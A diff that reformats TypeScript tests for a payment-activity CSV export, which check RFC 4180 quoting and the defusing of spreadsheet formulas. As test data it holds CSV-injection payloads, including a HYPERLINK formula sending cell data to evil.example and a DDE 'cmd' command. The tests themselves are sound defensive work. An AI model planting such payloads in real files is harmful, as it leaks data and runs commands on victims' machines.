@@ -4,9 +4,24 @@ import { CSV_START, csvLines } from './csv.ts';
 
 const TXID = 'ab'.repeat(32);
 const sent: ExportedActivity = {
-  id: '0b0e7a3c-0000-4000-8000-000000000001', direction: 'sent', origin: 'https://shop.example', counterparty: 'bob@pay.example', recipientCount: 1, satoshis: '200000', feeSatoshis: '12',
-  amount: '0.10', currency: 'USD', status: 'COMPLETED', statusDescription: null, txid: TXID, time: Date.UTC(2026, 10, 21, 4, 5, 6, 7), sender: null, note: null, recipients: [{ to: 'bob@pay.example', satoshis: '200000' }],
-  height: 812_345, buttonId: 'article-7',
+  id: '0b0e7a3c-0000-4000-8000-000000000001',
+  direction: 'sent',
+  origin: 'https://shop.example',
+  counterparty: 'bob@pay.example',
+  recipientCount: 1,
+  satoshis: '200000',
+  feeSatoshis: '12',
+  amount: '0.10',
+  currency: 'USD',
+  status: 'COMPLETED',
+  statusDescription: null,
+  txid: TXID,
+  time: Date.UTC(2026, 10, 21, 4, 5, 6, 7),
+  sender: null,
+  note: null,
+  recipients: [{ to: 'bob@pay.example', satoshis: '200000' }],
+  height: 812_345,
+  buttonId: 'article-7',
 };
 
 test('a payment in one line, in UTC, every amount as plain digits', () => {
@@ -16,33 +31,78 @@ test('a payment in one line, in UTC, every amount as plain digits', () => {
 });
 
 test('money received, not confirmed: what it has not is empty', () => {
-  const received: ExportedActivity = { ...sent, id: TXID, direction: 'received', origin: null, status: 'RECEIVED', amount: null, currency: null, feeSatoshis: null, height: null, buttonId: null, recipients: [{ to: 'mAddress', satoshis: '5' }], satoshis: '5' };
+  const received: ExportedActivity = {
+    ...sent,
+    id: TXID,
+    direction: 'received',
+    origin: null,
+    status: 'RECEIVED',
+    amount: null,
+    currency: null,
+    feeSatoshis: null,
+    height: null,
+    buttonId: null,
+    recipients: [{ to: 'mAddress', satoshis: '5' }],
+    satoshis: '5',
+  };
   expect(csvLines([received])).toBe(`2026-11-21T04:05:06.007Z,received,RECEIVED,,mAddress,,,5,,${TXID},,,,,,\r\n`);
 });
 
 test('who paid by paymail, whether its host stands by it, and the note', () => {
-  const received: ExportedActivity = { ...sent, direction: 'received', sender: { paymail: 'bob@two.example', verified: true }, note: 'for lunch, thanks\n=1+1' };
+  const received: ExportedActivity = {
+    ...sent,
+    direction: 'received',
+    sender: { paymail: 'bob@two.example', verified: true },
+    note: 'for lunch, thanks\n=1+1',
+  };
   expect(csvLines([received]).endsWith(`,bob@two.example,yes,"for lunch, thanks\n'=1+1"\r\n`)).toBe(true);
-  expect(csvLines([{ ...received, sender: { paymail: '=1@two.example', verified: false }, note: '+1' }]).endsWith(`,'=1@two.example,no,'+1\r\n`)).toBe(true);
+  expect(
+    csvLines([{ ...received, sender: { paymail: '=1@two.example', verified: false }, note: '+1' }]).endsWith(
+      `,'=1@two.example,no,'+1\r\n`,
+    ),
+  ).toBe(true);
 });
 
 test('several recipients, each with what it got', () => {
-  const recipients = [{ to: 'a@x.example', satoshis: '1' }, { to: '42', satoshis: '2' }];
+  const recipients = [
+    { to: 'a@x.example', satoshis: '1' },
+    { to: '42', satoshis: '2' },
+  ];
   expect(csvLines([{ ...sent, recipients }])).toContain(',a@x.example (1 satoshis); 42 (2 satoshis),');
 });
 
 test('the file begins with a byte order mark and the names of the columns', () => {
-  expect(CSV_START).toBe('\uFEFFtime,direction,status,site,recipients,amount,currency,satoshis,fee satoshis,txid,block height,payment id,button id,sender,sender verified,note\r\n');
+  expect(CSV_START).toBe(
+    '\uFEFFtime,direction,status,site,recipients,amount,currency,satoshis,fee satoshis,txid,block height,payment id,button id,sender,sender verified,note\r\n',
+  );
 });
 
 test.each([
-  ['a,b', '"a,b"'], ['say "hi"', '"say ""hi"""'], ['two\r\nlines', '"two\r\nlines"'], ['two\nlines', '"two\nlines"'], ['plain; text', 'plain; text'], ['żółć 💸', 'żółć 💸'], ['', ''],
+  ['a,b', '"a,b"'],
+  ['say "hi"', '"say ""hi"""'],
+  ['two\r\nlines', '"two\r\nlines"'],
+  ['two\nlines', '"two\nlines"'],
+  ['plain; text', 'plain; text'],
+  ['żółć 💸', 'żółć 💸'],
+  ['', ''],
 ])('RFC 4180: %j becomes %j', (buttonId, cell) => {
   expect(csvLines([{ ...sent, buttonId }]).endsWith(`,${cell},,,\r\n`)).toBe(true);
 });
 
-test.each(['=1+1', '+1', '-1', '@SUM(A1)', ' =1+1', '\t=1', '\r=1', '\n=1', '＝1', '=HYPERLINK("https://evil.example?"&A1,"x")'])('a formula is made text: %j', (buttonId) => {
-  const [, cell = ''] = /article-0,(.*)$/s.exec(csvLines([{ ...sent, id: 'article-0', buttonId }]).replace(/,,,\r\n$/, '')) ?? [];
+test.each([
+  '=1+1',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  ' =1+1',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '＝1',
+  '=HYPERLINK("https://evil.example?"&A1,"x")',
+])('a formula is made text: %j', (buttonId) => {
+  const [, cell = ''] =
+    /article-0,(.*)$/s.exec(csvLines([{ ...sent, id: 'article-0', buttonId }]).replace(/,,,\r\n$/, '')) ?? [];
   expect(cell.replace(/^"/, '').startsWith(`'${buttonId[0]}`)).toBe(true);
 });
 
@@ -51,14 +111,40 @@ test('a formula in a recipient or a site is made text too', () => {
   expect(line).toContain(",'=1,'@a,");
 });
 
-/** The cells that a spreadsheet sees whose separator is the semicolon, as in most of Europe: a quotation mark in the middle of one means nothing to it. */
+/**
+ * The cells that a spreadsheet sees whose separator is the semicolon, as in most of Europe: a quotation mark in the
+ * middle of one means nothing to it.
+ */
 const cellsBySemicolon = (text: string) => text.split(/[;\r\n]/);
 
 test.each([
-  '1;=1+1', '1; =1+1', '1;\t=1', "1;=cmd|' /C calc'!A0;", '1;"=1+1;', "1;'=1", '1\n=1', '1\r\n+1', '1\n"=1+1', 'a;b;@SUM(A1)', '1\t=1', '1;＝1', '1;\u00a0=1',
+  '1;=1+1',
+  '1; =1+1',
+  '1;\t=1',
+  "1;=cmd|' /C calc'!A0;",
+  '1;"=1+1;',
+  "1;'=1",
+  '1\n=1',
+  '1\r\n+1',
+  '1\n"=1+1',
+  'a;b;@SUM(A1)',
+  '1\t=1',
+  '1;＝1',
+  '1;\u00a0=1',
 ])('a formula behind a separator of other countries is made text: %j', (buttonId) => {
-  for (const item of [{ ...sent, buttonId }, { ...sent, recipients: [{ to: buttonId, satoshis: '1' }, { to: '=1', satoshis: '1' }] }]) {
-    const formulas = cellsBySemicolon(csvLines([item])).flatMap((cell) => cell.split('\t')).filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell));
+  for (const item of [
+    { ...sent, buttonId },
+    {
+      ...sent,
+      recipients: [
+        { to: buttonId, satoshis: '1' },
+        { to: '=1', satoshis: '1' },
+      ],
+    },
+  ]) {
+    const formulas = cellsBySemicolon(csvLines([item]))
+      .flatMap((cell) => cell.split('\t'))
+      .filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell));
     expect(formulas).toEqual([]);
   }
 });
